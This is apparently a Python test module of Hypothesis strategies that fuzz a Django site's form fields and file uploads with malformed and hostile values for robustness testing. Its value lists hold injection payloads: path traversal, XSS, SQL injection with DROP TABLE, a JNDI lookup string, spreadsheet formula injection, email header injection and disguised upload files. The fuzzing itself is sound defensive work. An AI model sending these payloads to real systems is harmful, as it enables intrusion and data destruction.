"""Hypothesis strategies for form values: what a browser, a script or an attacker may send.

Every value is what travels in a POST: a string (or several for one name), or a file.
A field of one kind is sometimes sent a value of another kind, left out, or repeated.
"""

import datetime
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import strategies as st

from tests.factories import PDF_BYTES  # a real PDF: uploads are parsed

LONG = 5000

NASTY_TEXT = [
    "",
    " ",
    "\t\r\n",
    "\x00",
    "a\x00b",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "'; DROP TABLE accounts_user; --",
    "%s%s%s%n",
    "{{ request.user.password }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "保定市产业创新战略联盟",
    "联" * LONG,
    "x" * (LONG + 1),
    "\u202eevil\u202c",
    "😀🏭",
    "null",
    "None",
    "NaN",
    "-1",
    "0",
    "1e309",
    "true",
    "[]",
    "{}",
    "　",  # an ideographic (full-width) space
]
# Strings that look like integers to some parsers and not to others.
NUMBERISH = [
    "0",
    "1",
    "100",
    "101",
    "-1",
    "-100",
    "2018",
    "2027",
    "99999",
    "100000",
    "500000",
    "500001",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775807",
    "9223372036854775808",
    "1" + "0" * 30,
    "1" * 4301,  # past Python's int-from-str digit limit
    "1.5",
    "1e3",
    "-0",
    " 7 ",
    "1,000",
    "1_000",
    "0x10",
    "NaN",
    "inf",
    "-inf",
    "²",
    "١٢",
    "１００",
    "\x00",
    "",
]
DATES = [
    "2026-03-01",
    "2026-11-24",
    "2026-02-30",
    "2026-13-01",
    "2024-02-29",
    "2026-02-29",
    "0000-01-01",
    "0001-01-01",
    "1900-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026/03/01",
    "2026年3月1日",
    "03/01/2026",
    "01/03/2026",
    "2026-3-1",
    "20260301",
    "today",
    "",
]
DATETIMES = [
    "2026-12-01T09:30",
    "2026-12-01 09:30",
    "2026-12-01 09:30:00",
    "2026-12-01T25:61",
    "2026-02-30T09:30",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "2020-01-01T09:00",
    "",
]
BOOLS = ["on", "off", "true", "false", "True", "1", "0", "", "yes", "no", "是"]

# Any character UTF-8 can carry (no lone surrogates: no client could send them).
any_char = st.characters(codec="utf-8")
chinese = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FA5)


# Deterministic bad values per kind of field: every field of every form is sent each of
# its kind's values once, the rest of the form valid (test_each_field_invalid_never_500),
# besides the random campaign. A class of input, not one instance.
INVALID_TEXT = (
    "",
    "\t\r\n",
    "联" * LONG,
    "=cmd|' /C calc'!A0",
    "标题\r\nBcc: victim@example.test",
    "<script>alert(1)</script>",
    "\u202eevil",
)
INVALID_NUMBER = ("abc", "", "-1", "1.5", "9" * 40, "1e309", "１２")
INVALID_DATE = ("0001-01-01", "9999-12-31", "2026-02-30", "abc", "")
INVALID_DATETIME = ("0001-01-01T00:00", "9999-12-31T23:59", "2026-02-30T09:30", "abc", "")
INVALID_CHOICE = ("nonsense", "", "<script>")
INVALID_PK = ("9" * 40, "-1", "abc", "0", "")


def _constant(value):
    return lambda: value


@dataclass(frozen=True)
class Field:
    """What one form field is sent: ``valid`` values a user would type, ``nasty`` ones a
    script or an attacker would. ``a | b`` offers the values of both. ``sample()`` is one
    valid value and ``invalid`` the deterministic bad ones (see INVALID_TEXT)."""

    valid: st.SearchStrategy
    nasty: st.SearchStrategy
    sample: object = _constant("")
    invalid: tuple = INVALID_TEXT

    def __or__(self, other: "Field") -> "Field":
        return Field(
            self.valid | other.valid,
            self.nasty | other.nasty,
            self.sample,
            tuple(dict.fromkeys(self.invalid + other.invalid)),
        )

    def any(self) -> st.SearchStrategy:
        return self.valid | self.nasty


def _with_nul(strategy):
    return st.tuples(strategy, strategy).map(lambda pair: f"{pair[0]}\x00{pair[1]}")


def _nasty_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NASTY_TEXT),
        st.text(any_char, max_size=40),
        st.text(st.one_of(chinese, st.sampled_from(" 0123456789，。ab")), max_size=300),
        _with_nul(st.text(chinese, max_size=5)),
    )


def text() -> Field:
    return Field(
        st.one_of(
            st.sampled_from(["保定市产业创新战略联盟", "说明", "联合攻关 2026"]),
            st.text(st.one_of(chinese, st.sampled_from("ab1 ")), min_size=1, max_size=30),
        ),
        _nasty_text(),
        _constant("联合攻关说明"),
        INVALID_TEXT,
    )


def integer(low: int = 0, high: int = 100) -> Field:
    return Field(
        st.integers(low, high).map(str),
        st.one_of(
            st.sampled_from(NUMBERISH),
            st.integers().map(str),
            st.floats(allow_nan=True, allow_infinity=True).map(str),
            _nasty_text(),
        ),
        _constant(str(high)),
        (*INVALID_NUMBER, str(low - 1), str(high + 1)),
    )


def date() -> Field:
    return Field(
        st.dates(datetime.date(2018, 1, 1), datetime.date(2030, 12, 31)).map(
            datetime.date.isoformat
        ),
        st.one_of(
            st.sampled_from(DATES),
            st.dates(datetime.date(1, 1, 1), datetime.date(9999, 12, 31)).map(
                datetime.date.isoformat
            ),
            _nasty_text(),
        ),
        _constant(datetime.date.today().isoformat()),
        INVALID_DATE,
    )


def datetime_local() -> Field:
    def fmt(value):
        return value.strftime("%Y-%m-%dT%H:%M")

    return Field(
        st.datetimes(datetime.datetime(2026, 1, 1), datetime.datetime(2030, 12, 31)).map(fmt),
        st.one_of(
            st.sampled_from(DATETIMES),
            st.datetimes(datetime.datetime(1, 1, 1), datetime.datetime(9999, 12, 31)).map(fmt),
            _nasty_text(),
        ),
        _constant("2027-05-20T14:30"),
        INVALID_DATETIME,
    )


def boolean() -> Field:
    return Field(
        st.sampled_from(["on", ""]),
        st.sampled_from(BOOLS) | _nasty_text(),
        _constant("on"),
        ("maybe", "\x00", "是"),
    )


def choice(values) -> Field:
    """One of the real choices, or something else."""
    values = [str(v) for v in values]
    return Field(st.sampled_from(values), _nasty_text(), _constant(values[0]), INVALID_CHOICE)


def pk(values) -> Field:
    """A primary key: real ones, or numbers and junk."""
    values = [str(v) for v in values]
    return Field(st.sampled_from(values), integer().nasty, _constant(values[0]), INVALID_PK)


def many(field: Field, max_size: int = 4) -> Field:
    return Field(
        st.lists(field.valid, min_size=1, max_size=max_size),
        st.lists(field.any(), max_size=max_size),
        lambda: [field.sample()],
        tuple([bad] for bad in field.invalid),
    )


FILE_NAMES = [
    "材料.pdf",
    "scan.PDF",
    "photo.jpg",
    "image.png",
    "../../etc/passwd",
    "..\\evil.pdf",
    "a" * 300 + ".pdf",
    "noextension",
    "virus.exe",
    ".pdf",
    " .pdf",
    "<script>.pdf",
    "名字 带空格.pdf",
]


def _file(name: str, content: bytes, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def upload() -> Field:
    """A new file object per draw (the client consumes it)."""
    contents = st.one_of(
        st.just(b""),
        st.just(PDF_BYTES),
        st.binary(max_size=256),
        st.binary(max_size=64).map(lambda b: b"%PDF-" + b),
        st.binary(max_size=64).map(lambda b: b"\x89PNG\r\n\x1a\n" + b),
        st.binary(max_size=64).map(lambda b: b"\xff\xd8\xff" + b),
    )
    return Field(
        st.builds(_file, st.just("材料.pdf"), st.just(PDF_BYTES), st.just("application/pdf")),
        sample=lambda: _file("材料.pdf", PDF_BYTES, "application/pdf"),
        invalid=INVALID_FILES,
        nasty=st.builds(
            _file,
            st.sampled_from(FILE_NAMES),
            contents,
            st.sampled_from(
                ["application/pdf", "image/png", "application/octet-stream", "text/html"]
            ),
        ),
    )


class _InvalidFiles(tuple):
    """Fresh file objects each time the tuple is iterated (the client consumes them)."""

    def __iter__(self):
        yield _file("空.pdf", b"", "application/pdf")
        yield _file("联盟章程.hta", b"%PDF-1.4\n<script>x</script>", "application/pdf")
        yield _file("page.html", b"<html><script>alert(1)</script>", "text/html")
        yield _file("../../etc/passwd", b"\x89PNG\r\n\x1a\n" + bytes(16), "image/png")


INVALID_FILES = _InvalidFiles()


def anything() -> st.SearchStrategy:
    """A value of any kind: for a field sent something it does not expect."""
    return st.one_of(
        text().any(),
        integer().any(),
        date().any(),
        boolean().any(),
        st.lists(_nasty_text(), max_size=3),
    )


def _spoil(draw, field: Field):
    """A bad value for one field: missing (None), of another kind, repeated, or nasty."""
    how = draw(st.integers(0, 4))
    if how == 0:
        return None
    if how == 1:
        return draw(anything())
    if how == 2:
        return draw(st.lists(field.any(), min_size=2, max_size=3))
    return draw(field.nasty)


@st.composite
def form_data(draw, fields: dict[str, Field]) -> dict:
    """The form's real field names. Either every field is spoiled at random ("chaos"), or
    all are filled as a user would and one or two are spoiled, so that the bad value
    gets past the other fields' validation into the view and the services."""
    names = list(fields)
    data = {}
    if not names or draw(st.integers(0, 2)) == 0:
        for name, field in fields.items():
            value = draw(field.valid) if draw(st.integers(0, 3)) == 0 else _spoil(draw, field)
            if value is not None:
                data[name] = value
    else:
        data = {name: draw(field.valid) for name, field in fields.items()}
        for name in draw(st.lists(st.sampled_from(names), min_size=1, max_size=2, unique=True)):
            value = _spoil(draw, fields[name])
            if value is None:
                del data[name]
            else:
                data[name] = value
    if draw(st.integers(0, 7)) == 0:
        extras = draw(
            st.dictionaries(
                st.one_of(
                    st.sampled_from(["csrfmiddlewaretoken", "id", "pk", "state", "next", "page"]),
                    st.text(st.characters(codec="ascii", min_codepoint=33), min_size=1, max_size=8),
                ),
                anything(),
                max_size=3,
            )
        )
        for key, value in extras.items():
            data.setdefault(key, value)
    return data
